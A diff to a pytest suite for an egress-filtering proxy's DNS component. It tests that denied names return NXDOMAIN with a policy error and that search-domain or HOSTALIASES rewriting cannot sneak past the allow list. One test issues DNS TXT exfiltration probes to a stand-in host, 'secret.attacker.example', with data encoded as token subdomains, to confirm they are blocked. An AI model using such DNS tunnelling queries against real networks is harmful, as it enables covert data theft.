@@ -3,6 +3,7 @@ by the address policy, everything else REFUSED or empty, and nothing but the
 A/AAAA lookups of admitted names ever reaches the upstream (the harness DNS
 server counts what it sees). Clients: dig and raw sockets."""
 
+import os
 import random
 import re
 import shutil
@@ -204,6 +205,32 @@ def test_nonexistent_admitted_name_nxdomain(start_proxy, dns):
     check_record(proxy.log.wait_one(by(event="dns")), "nope.test", "A", "allow", "allowed", 0)
 
 
+def test_search_domain_or_host_alias_never_rewrites_an_admitted_name(start_proxy, dns, origins,
+                                                                    tmp_path):
+    """The name judged is the name resolved: LOCALDOMAIN (resolv.conf's
+    `search`) with Kubernetes' ndots:5 must not turn gone.test into
+    gone.test.corp.test (which exists), nor HOSTALIASES the single-label
+    `shortname` into allowed.test; by the proxy or by its DNS server."""
+    aliases = tmp_path / "hostaliases"
+    aliases.write_text("shortname allowed.test\n")
+    env = dict(os.environ, LOCALDOMAIN="corp.test", RES_OPTIONS="ndots:5",
+               HOSTALIASES=str(aliases))
+    proxy = start_proxy(allow="gone.test,shortname", dns_listen=DNS, env=env)
+    before = dns.count("gone.test.corp.test"), dns.count("allowed.test")
+    for name in ("gone.test", "shortname"):
+        t = token()
+        r = proxy.fetch(f"http://{name}:{origins.http.port}/hello?t={t}")
+        assert r.status == 502, name
+        assert origins.http.state.find(t) == [], name
+        rec = proxy.log.wait_one(by(event="http", host=name))
+        assert (rec["decision"], rec["reason"]) == ("deny", "dns_failure"), rec
+        status, _, answers = dig(proxy, name, "A")
+        assert (status, answers) == ("NXDOMAIN", []), name
+        assert dns.count(name) > 0
+    assert (dns.count("gone.test.corp.test"), dns.count("allowed.test")) == before
+    assert dns.count("shortname.corp.test") == 0
+
+
 def test_upstream_failure_servfail(start_proxy):
     proxy = start_proxy(allow="servfail.test", dns_listen=DNS)
     status, _, answers = dig(proxy, "servfail.test", "A")
@@ -228,12 +255,19 @@ def test_partly_private_answers_only_admitted(start_proxy):
 
 # -- denied names ----------------------------------------------------------------
 
-def test_denied_name_refused_and_not_forwarded(start_proxy, dns):
+def test_denied_name_blocked_and_not_forwarded(start_proxy, dns):
+    """NXDOMAIN (getaddrinfo fails at once), not REFUSED (which glibc turns
+    into a "temporary failure" that npm and pip retry), with an Extended DNS
+    Error "Blocked" naming awf's policy."""
     proxy = start_proxy(dns_listen=DNS)
     before = dns.count("notallowed.test")
     for qtype in ("A", "AAAA", "HTTPS"):
         status, _, answers = dig(proxy, "notallowed.test", qtype)
-        assert (status, answers) == ("REFUSED", []), qtype
+        assert (status, answers) == ("NXDOMAIN", []), qtype
+    out = subprocess.run(["dig", "@127.0.0.1", "-p", str(proxy.dns_port), "+time=3",
+                          "+tries=1", "notallowed.test"], capture_output=True, text=True,
+                         timeout=30).stdout
+    assert "EDE: 15 (Blocked): (awf: denied by policy (not_allowed))" in out, out
     assert dns.count("notallowed.test") == before
     recs = proxy.log.wait(by(event="dns", qname="notallowed.test"), count=3)
     check_record(recs[0], "notallowed.test", "A", "deny", "not_allowed", 0)
@@ -243,10 +277,10 @@ def test_txt_exfiltration_refused_and_not_forwarded(start_proxy, dns):
     proxy = start_proxy(dns_listen=DNS)
     before = dns.total()
     status, _, answers = dig(proxy, "TXT", "secret.attacker.example")
-    assert (status, answers) == ("REFUSED", [])
+    assert (status, answers) == ("NXDOMAIN", [])
     secret = f"{token()}.{token()}.attacker.example"
     status, _, _ = dig(proxy, secret, "TXT")
-    assert status == "REFUSED"
+    assert status == "NXDOMAIN"
     assert dns.count("secret.attacker.example") == 0 and dns.count(secret) == 0
     assert dns.total() == before  # nothing at all went upstream
     rec = proxy.log.wait_one(by(event="dns", qname="secret.attacker.example"))
@@ -257,7 +291,7 @@ def test_blocked_name_refused(start_proxy, dns):
     proxy = start_proxy(block="bad.allowed.test", dns_listen=DNS)
     before = dns.total()
     status, _, _ = dig(proxy, "x.bad.allowed.test", "A")
-    assert status == "REFUSED"
+    assert status == "NXDOMAIN"
     assert dns.total() == before
     check_record(proxy.log.wait_one(by(event="dns")), "x.bad.allowed.test", "A", "deny",
                  "blocked", 0)
@@ -307,7 +341,7 @@ def test_tcp_query(start_proxy):
     status, _, answers = dig(proxy, "+tcp", "allowed.test", "A")
     assert status == "NOERROR" and [d for _, _, _, d in answers] == ["127.0.0.1"]
     r = Reply(tcp(proxy, query("notallowed.test", A, qid=7)))
-    assert (r.id, r.rcode) == (7, REFUSED)
+    assert (r.id, r.rcode) == (7, NXDOMAIN)
     check_record(proxy.log.wait_one(by(event="dns", qname="allowed.test")), "allowed.test",
                  "A", "allow", "allowed", 1)
 
@@ -323,7 +357,7 @@ def test_tcp_pipelined_queries(start_proxy):
             n = struct.unpack("!H", recv_exact(s, 2))[0]
             r = Reply(recv_exact(s, n))
             got[r.id] = r.rcode
-    assert got == {1: NOERROR, 2: REFUSED, 3: NOERROR}
+    assert got == {1: NOERROR, 2: NXDOMAIN, 3: NOERROR}
 
 
 def test_truncation_then_tcp(start_proxy, dns):
